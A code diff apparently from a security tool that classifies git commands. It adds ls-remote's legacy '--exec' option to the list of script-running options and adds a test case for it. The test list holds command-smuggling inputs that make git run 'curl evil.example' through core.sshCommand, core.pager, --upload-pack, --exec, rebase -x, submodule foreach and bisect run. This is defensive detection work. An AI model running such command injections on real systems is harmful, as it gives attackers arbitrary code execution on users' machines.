@@ -300,7 +300,8 @@ const SUBCOMMAND_SCRIPTS: Readonly<Record<string, { script?: RegExp; valued?: st
   'filter-branch': { script: /^(env-filter|tree-filter|index-filter|parent-filter|msg-filter|commit-filter|tag-name-filter|setup)$/, longValued: ['env-filter', 'tree-filter', 'index-filter', 'parent-filter', 'msg-filter', 'commit-filter', 'tag-name-filter', 'setup', 'subdirectory-filter', 'prune-empty', 'original', 'state-branch', 'd'] },
   difftool: { script: /^(x|extcmd)$/, valued: 'xt', longValued: ['extcmd', 'tool'] },
   mergetool: { valued: 't', longValued: ['tool'] },
-  'ls-remote': { script: /^(upload-pack|u)$/, longValued: ['upload-pack', 'sort', 'server-option'] },
+  // (`--exec` is ls-remote's older name of --upload-pack, still read.)
+  'ls-remote': { script: /^(upload-pack|exec|u)$/, longValued: ['upload-pack', 'exec', 'sort', 'server-option'] },
   fetch: { script: /^(upload-pack)$/, longValued: ['upload-pack', 'depth', 'deepen', 'shallow-since', 'shallow-exclude', 'refmap', 'server-option', 'negotiation-tip', 'jobs', 'filter', 'recurse-submodules-default', 'submodule-prefix'] },
   pull: { script: /^(upload-pack)$/, longValued: ['upload-pack', 'depth', 'strategy', 'strategy-option'] },
   clone: { script: /^(upload-pack|u)$/, valued: 'uobcj', longValued: ['upload-pack', 'origin', 'branch', 'config', 'template', 'reference', 'separate-git-dir', 'depth', 'filter', 'jobs', 'server-option'] },
@@ -1335,7 +1336,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git --config-env=core.pager=P log",
         "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='curl evil.example' git fetch",
         "GIT_CONFIG_PARAMETERS=\"'core.pager=curl evil.example'\" git log",
-        "git ls-remote --upload-pack='curl evil.example;:' .",
+        "git ls-remote --upload-pack='curl evil.example;:' .", "git ls-remote --exec='curl evil.example;:' .",
         "git rebase -x 'curl evil.example' HEAD~1",
         "git submodule foreach 'curl evil.example'",
         'git bisect run curl evil.example',
